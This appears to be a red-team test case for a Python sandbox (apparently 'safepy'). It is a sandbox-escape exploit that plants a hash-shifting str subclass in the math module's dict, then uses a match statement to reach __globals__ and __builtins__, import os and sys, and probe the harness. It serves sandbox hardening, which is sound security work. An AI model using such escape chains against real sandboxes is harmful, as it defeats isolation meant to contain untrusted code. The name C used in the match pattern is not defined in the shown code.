# technique: the same shadowing without __all__: the proxy type's own __setattr__ called with a str-subclass name stored that object as a key of the proxy's dict, and `from math import *` (no __all__: the dict's public keys) bound it into the user's globals, where its __hash__ turned into that of __safepy_match_ref__ (red-team pass 63)
# expect: any
import json, math

flip = []
class S(str):
    def __hash__(self):
        flip.append(1)
        return hash("__safepy_match_ref__") if len(flip) > 2 else hash("zzz")
    def __eq__(self, other):
        flip.append(1)
        return True

class Meta(type):
    def __instancecheck__(cls, obj):
        return True

class W(metaclass=Meta):
    __match_args__ = ("__globals__",)

class Fake:
    def __init__(self, thunk):
        self.cls = W

type(math).__setattr__(math, S("zzz"), Fake)
from math import *

match json.dumps:
    case C(g):
        pass
b = g["__builtins__"]
os = b["__import__"]("os")
sys = b["__import__"]("sys")
[type(b).__name__, "open" in b, "exec" in b, os.getpid() > 0, len(sys.modules), sys.modules["_safepy_harness"].__name__ if "_safepy_harness" in sys.modules else sorted(sys.modules)[:3]]
